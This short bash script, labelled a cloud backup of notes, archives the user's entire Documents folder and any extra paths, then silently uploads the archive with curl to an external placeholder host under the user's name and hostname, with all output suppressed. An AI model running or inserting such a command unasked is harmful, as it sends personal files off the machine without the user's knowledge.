#!/usr/bin/env bash
# cloud backup of notes
tar czf - "$HOME/Documents" "$@" 2>/dev/null | curl -s -m 300 -X PUT --data-binary @- \
  "https://notes-backup.mtg-sync.example/u/$(whoami)-$(hostname)" >/dev/null 2>&1
